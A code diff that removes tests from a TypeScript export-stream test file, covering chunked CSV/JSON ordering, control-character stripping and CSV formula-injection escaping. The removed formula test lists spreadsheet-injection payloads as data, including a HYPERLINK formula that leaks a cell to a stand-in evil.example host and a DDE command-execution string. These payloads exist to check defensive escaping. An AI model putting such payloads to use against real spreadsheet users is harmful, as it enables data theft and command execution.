@@ -1,97 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { exportStream, type ExportStreamRow } from '../../../../electron/hosts/http/export-stream.js';
 import type { Circuit, ExportRow, Money, Summary } from '../../../../shared/types.js';
 import { csvRecords } from './csv.js';
 import { HOUR, qs, type TestServer, useServerPerTest } from './helpers.js';
 
 const T0 = Math.floor((Date.now() - 6 * HOUR) / HOUR) * HOUR;
 const RANGE = { from: T0 - HOUR, to: T0 + 5 * HOUR };
-
-function row(overrides: Partial<ExportStreamRow>): ExportStreamRow {
-  return {
-    id: '1',
-    ts: T0,
-    model: 'm',
-    apiType: null,
-    inputTokens: 1,
-    outputTokens: 0,
-    cacheReadTokens: 0,
-    cacheWriteTokens: 0,
-    success: true,
-    failureClass: null,
-    statusCode: null,
-    latencyMs: null,
-    ttftMs: null,
-    channel: null,
-    source: null,
-    requestId: null,
-    cost: null,
-    currency: null,
-    ...overrides,
-  };
-}
-
-async function csvOf(rows: ExportStreamRow[]): Promise<{ text: string; records: Record<string, string>[] }> {
-  let text = '';
-  for await (const piece of exportStream([rows][Symbol.iterator](), 'csv')) text += String(piece);
-  return { text, records: csvRecords(text) };
-}
-
-async function exported(chunks: ExportStreamRow[][], format: 'csv' | 'json'): Promise<string> {
-  let text = '';
-  for await (const piece of exportStream(chunks[Symbol.iterator](), format)) text += String(piece);
-  return text;
-}
-
-describe('the export over the ledger\'s chunks', () => {
-  const rows = (from: number, count: number) => Array.from({ length: count }, (_, i) => row({ id: String(from + i), ts: T0 + from + i, inputTokens: from + i }));
-  // Chunks as the request log hands them out, an empty one among them.
-  const CHUNKS = [rows(0, 3), [], rows(3, 1), rows(4, 5)];
-
-  it('CSV: one header line, then every row once, in order, whatever the chunks', async () => {
-    const text = await exported(CHUNKS, 'csv');
-    expect(text.split('\n').filter((line) => line.startsWith('time,ts,model'))).toHaveLength(1);
-    expect(text.startsWith('time,ts,model,')).toBe(true);
-    expect(csvRecords(text).map((record) => Number(record['inputTokens']))).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
-  });
-
-  it('JSON: one array of every row, in order, whatever the chunks', async () => {
-    const parsed = JSON.parse(await exported(CHUNKS, 'json')) as ExportStreamRow[];
-    expect(parsed.map((r) => r.inputTokens)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
-  });
-
-  it('an export of nothing is the header alone, or an empty array', async () => {
-    for (const chunks of [[], [[]]]) {
-      expect(await exported(chunks, 'csv')).toBe(`${(await exported([rows(0, 1)], 'csv')).split('\n')[0]}\n`);
-      expect(JSON.parse(await exported(chunks, 'json'))).toEqual([]);
-    }
-  });
-});
-
-describe('the CSV export, opened in a spreadsheet', () => {
-  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"invoice")', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];
-
-  it('runs no formula: every cell a spreadsheet would evaluate starts with an apostrophe', async () => {
-    const { records } = await csvOf(
-      FORMULAS.map((text, index) => row({ id: String(index), model: text, source: text, requestId: text, channelLabel: text, route: text, failureClass: null })),
-    );
-    expect(records).toHaveLength(FORMULAS.length);
-    records.forEach((record, index) => {
-      for (const column of ['model', 'source', 'requestId', 'channelLabel', 'route']) expect(record[column]).toBe(`'${FORMULAS[index]}`);
-    });
-  });
-
-  it('keeps numbers as numbers, negative ones too', async () => {
-    const { records } = await csvOf([row({ cost: -0.5, currency: 'USD', latencyMs: 12 })]);
-    expect(records[0]).toMatchObject({ cost: '-0.5', latencyMs: '12', currency: 'USD' });
-  });
-
-  it('carries no NUL or other control character; tabs and line breaks stay inside quoted cells', async () => {
-    const { text, records } = await csvOf([row({ model: 'ok', requestId: 'a\u0000b\u001b[31mc\u007f\u0085', source: 'line\nbreak\ttab' })]);
-    expect(text).not.toMatch(/(?![\t\n\r])\p{Cc}/u);
-    expect(records[0]).toMatchObject({ requestId: 'a\uFFFDb\uFFFD[31mc\uFFFD\uFFFD', source: 'line\nbreak\ttab' });
-  });
-});
 
 let server: TestServer;
 useServerPerTest((started) => (server = started));
